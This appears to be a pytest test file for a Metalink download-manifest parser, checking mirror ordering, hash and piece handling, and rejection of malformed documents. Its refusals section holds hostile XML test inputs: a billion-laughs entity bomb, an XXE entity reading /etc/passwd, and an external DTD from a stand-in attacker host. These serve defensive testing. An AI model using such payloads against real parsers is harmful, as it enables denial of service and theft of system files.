import hashlib

import pytest

from kvmcloud.agent.downloads.errors import UnsupportedUrlError
from kvmcloud.agent.downloads.metalink_format import (
    MAX_DOCUMENT_BYTES,
    MAX_MIRRORS,
    MetalinkError,
    Pieces,
    parse_metalink,
)
from kvmcloud.protocol.checksums import Checksum, ChecksumAlgorithm
from kvmcloud.protocol.error_codes import ErrorCode
from tests.support.metalink import PieceList, meta4, metalink_v3, pieces_of

DATA = bytes(range(256)) * 40  # 10240 bytes
SHA256 = hashlib.sha256(DATA).hexdigest()
SHA512 = hashlib.sha512(DATA).hexdigest()
SHA1 = hashlib.sha1(DATA).hexdigest()
MD5 = hashlib.md5(DATA).hexdigest()


# v4 --------------------------------------------------------------------------------------


def test_v4_mirrors_by_priority_missing_last_ties_in_document_order():
    doc = meta4(
        [
            ("http://none/t", None),
            ("http://p2-first/t", 2),
            ("https://p1/t", 1),
            ("nfs://server/export/t", 2),
            ("http://p10/t", 10),
        ],
        size=len(DATA),
    )

    metalink = parse_metalink(doc)

    assert metalink.version == 4
    assert metalink.name == "image"
    assert metalink.size_bytes == len(DATA)
    assert metalink.mirrors == (
        "https://p1/t",
        "http://p2-first/t",
        "nfs://server/export/t",
        "http://p10/t",
        "http://none/t",
    )


def test_v4_torrents_and_unknown_schemes_are_skipped_with_reasons():
    doc = meta4(
        [("http://a/t", 1), ("ftp://b/t", 1), ("http://c/t.torrent", 1), ("t.raw", 1)],
        extra='<metaurl mediatype="torrent">http://d/t.torrent</metaurl>',
    )

    metalink = parse_metalink(doc)

    assert metalink.mirrors == ("http://a/t",)
    reasons = {entry.url: entry.reason for entry in metalink.skipped}
    assert "ftp" in reasons["ftp://b/t"]
    assert reasons["http://c/t.torrent"] == "a torrent"
    assert reasons["t.raw"] == "not an absolute URL"
    assert "torrent" in reasons["http://d/t.torrent"]


def test_v4_whole_file_hashes_and_pieces_are_kept_apart():
    pieces = pieces_of(DATA, 4096, "sha-256")
    doc = meta4([("http://a/t", 1)], size=len(DATA), hashes={"sha-256": SHA256}, pieces=pieces)

    metalink = parse_metalink(doc)

    assert metalink.checksums == (Checksum(ChecksumAlgorithm.SHA256, SHA256),)
    assert metalink.pieces == Pieces(ChecksumAlgorithm.SHA256, 4096, tuple(pieces.digests))
    assert metalink.pieces.expected_length(2, len(DATA)) == len(DATA) - 2 * 4096
    assert metalink.pieces.expected_length(1, len(DATA)) == 4096


def test_piece_hashes_never_stand_in_for_the_whole_file_hash():
    # CloudStack picks a random <hash>, possibly a piece hash, as the file's checksum.
    doc = meta4([("http://a/t", 1)], size=len(DATA), pieces=pieces_of(DATA, 4096, "sha-256"))

    metalink = parse_metalink(doc)

    assert metalink.checksums == ()
    assert metalink.strongest_checksum() is None
    assert metalink.pieces is not None


def test_strongest_checksum_prefers_sha512_then_down_to_md5():
    doc = meta4(
        [("http://a/t", 1)],
        hashes={"md5": MD5, "sha-1": SHA1, "SHA-512": SHA512.upper(), "sha256": SHA256},
    )

    metalink = parse_metalink(doc)

    assert metalink.strongest_checksum() == Checksum(ChecksumAlgorithm.SHA512, SHA512)
    assert len(metalink.checksums) == 4


@pytest.mark.parametrize(
    ("hashes", "expected"),
    [
        ({"md5": MD5}, ChecksumAlgorithm.MD5),
        ({"md5": MD5, "sha1": SHA1}, ChecksumAlgorithm.SHA1),
        ({"sha-1": SHA1, "sha-256": SHA256}, ChecksumAlgorithm.SHA256),
        ({"sha3-256": "ab" * 32, "crc32": "abcd1234", "md5": MD5}, ChecksumAlgorithm.MD5),
    ],
)
def test_strongest_checksum_of_what_is_there(hashes, expected):
    metalink = parse_metalink(meta4([("http://a/t", 1)], hashes=hashes))

    checksum = metalink.strongest_checksum()

    assert checksum is not None and checksum.algorithm is expected


def test_unknown_hash_types_are_ignored():
    metalink = parse_metalink(meta4([("http://a/t", 1)], hashes={"sha3-256": "ab" * 32}))

    assert metalink.checksums == ()


def test_strongest_pieces_are_chosen_when_several_are_given():
    sha1_pieces = pieces_of(DATA, 4096, "sha-1")
    sha256_pieces = pieces_of(DATA, 4096, "sha-256")
    extra = (
        '<pieces length="4096" type="sha-1">'
        + "".join(f"<hash>{d}</hash>" for d in sha1_pieces.digests)
        + "</pieces>"
    )
    doc = meta4([("http://a/t", 1)], size=len(DATA), pieces=sha256_pieces, extra=extra)

    metalink = parse_metalink(doc)

    assert metalink.pieces is not None
    assert metalink.pieces.algorithm is ChecksumAlgorithm.SHA256


# v3 --------------------------------------------------------------------------------------


def test_v3_mirrors_by_preference_descending_bittorrent_skipped():
    doc = metalink_v3(
        [
            ("http://none/t", None, "http"),
            ("http://p50/t", 50, "http"),
            ("https://p100/t", 100, "https"),
            ("http://tracker/t.torrent", 100, "bittorrent"),
            ("http://p50-second/t", 50, "http"),
            ("ftp://p90/t", 90, "ftp"),
        ],
        size=len(DATA),
    )

    metalink = parse_metalink(doc)

    assert metalink.version == 3
    assert metalink.size_bytes == len(DATA)
    assert metalink.mirrors == (
        "https://p100/t",
        "http://p50/t",
        "http://p50-second/t",
        "http://none/t",
    )
    assert {entry.url for entry in metalink.skipped} == {"http://tracker/t.torrent", "ftp://p90/t"}


def test_v3_verification_hashes_and_numbered_pieces_in_any_order():
    pieces = pieces_of(DATA, 4096, "sha1")
    doc = metalink_v3(
        [("http://a/t", 100, "http")],
        size=len(DATA),
        hashes={"sha256": SHA256, "md5": MD5},
        pieces=pieces,
        piece_order=[2, 0, 1],
    )

    metalink = parse_metalink(doc)

    assert metalink.strongest_checksum() == Checksum(ChecksumAlgorithm.SHA256, SHA256)
    assert metalink.pieces == Pieces(ChecksumAlgorithm.SHA1, 4096, tuple(pieces.digests))


def test_v3_piece_numbers_must_be_0_to_n_minus_1():
    pieces = pieces_of(DATA, 4096, "sha1")
    doc = metalink_v3(
        [("http://a/t", 100, "http")], size=len(DATA), pieces=pieces, piece_order=[0, 1, 1]
    )

    with pytest.raises(MetalinkError, match="numbered 0 to n-1"):
        parse_metalink(doc)


# refusals --------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<metalink xmlns="urn:ietf:params:xml:ns:metalink"><file name="x">
<url>http://a/&lol3;</url></file></metalink>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE metalink [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<metalink xmlns="urn:ietf:params:xml:ns:metalink"><file name="x">
<url>http://a/&secret;</url></file></metalink>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE metalink SYSTEM "http://attacker.example/evil.dtd">
<metalink xmlns="urn:ietf:params:xml:ns:metalink"><file name="x">
<url>http://a/t</url></file></metalink>"""


@pytest.mark.parametrize(
    "document", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD], ids=["bomb", "xxe", "dtd"]
)
def test_entities_and_dtds_are_refused(document):
    with pytest.raises(MetalinkError, match="DTD, entities or external references") as caught:
        parse_metalink(document)

    assert caught.value.code is ErrorCode.IMAGE_REJECTED


def test_documents_over_the_size_bound_are_refused_before_parsing():
    padding = b"<!--" + b"x" * MAX_DOCUMENT_BYTES + b"-->"
    doc = meta4([("http://a/t", 1)]).replace(b"<generator>", padding + b"<generator>")

    with pytest.raises(MetalinkError, match=f"larger than {MAX_DOCUMENT_BYTES} bytes"):
        parse_metalink(doc)


@pytest.mark.parametrize(
    ("document", "message"),
    [
        (b"<metalink xmlns='urn:ietf:params:xml:ns:metalink'><file>", "not well-formed XML"),
        (b"", "not well-formed XML"),
        (b"\x89PNG\r\n\x1a\n", "not well-formed XML"),
        (b"<metalink><file name='x'><url>http://a/t</url></file></metalink>", "not a Metalink"),
        (b"<html xmlns='http://www.w3.org/1999/xhtml'/>", "not a Metalink"),
    ],
)
def test_malformed_documents_get_a_clear_error(document, message):
    with pytest.raises(MetalinkError, match=message):
        parse_metalink(document)


def test_more_than_one_file_is_refused():
    with pytest.raises(MetalinkError, match="describes 2 files; a template needs exactly 1"):
        parse_metalink(meta4([("http://a/t", 1)], files=2))


def test_no_file_is_refused():
    with pytest.raises(MetalinkError, match="describes 0 files"):
        parse_metalink(meta4([("http://a/t", 1)], files=0))


def test_no_usable_mirror_is_an_unsupported_url_naming_each():
    doc = meta4([("ftp://a/t", 1), ("http://b/t.torrent", 2)])

    with pytest.raises(UnsupportedUrlError, match="no mirror the agent can download") as caught:
        parse_metalink(doc)

    assert "ftp://a/t" in str(caught.value) and "http://b/t.torrent: a torrent" in str(caught.value)


def test_mirrors_beyond_the_limit_are_skipped():
    mirrors = [(f"http://m{i}/t", i + 1) for i in range(MAX_MIRRORS + 3)]

    metalink = parse_metalink(meta4(mirrors))

    assert metalink.mirrors == tuple(url for url, _ in mirrors[:MAX_MIRRORS])
    assert [entry.url for entry in metalink.skipped] == [url for url, _ in mirrors[MAX_MIRRORS:]]


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        ({"hashes": {"sha-256": "xyz"}}, "SHA-256 hash is malformed"),
        ({"hashes": {"sha-256": SHA256[:-2]}}, "digest length should be 64"),
        ({"pieces": PieceList("sha-256", 4096, ["00" * 32] * 2)}, "has 2 piece hashes"),
        ({"pieces": PieceList("sha-256", 0, ["00" * 32] * 3)}, "length must be a positive"),
        ({"pieces": PieceList("sha-256", 4096, [])}, "no piece hashes"),
        ({"pieces": PieceList("sha-256", 4096, ["nothex"] * 3)}, "piece 0 is malformed"),
    ],
)
def test_malformed_hashes_and_pieces_are_refused(kwargs, message):
    with pytest.raises(MetalinkError, match=message):
        parse_metalink(meta4([("http://a/t", 1)], size=len(DATA), **kwargs))


def test_two_different_hashes_of_one_algorithm_are_refused():
    extra = f'<hash type="sha256">{"0" * 64}</hash>'

    with pytest.raises(MetalinkError, match="two different SHA-256 hashes"):
        parse_metalink(meta4([("http://a/t", 1)], hashes={"sha-256": SHA256}, extra=extra))


def test_size_must_be_an_integer():
    doc = meta4([("http://a/t", 1)]).replace(b"<url", b"<size>12 KB</size><url", 1)

    with pytest.raises(MetalinkError, match="<size> must be a non-negative integer"):
        parse_metalink(doc)
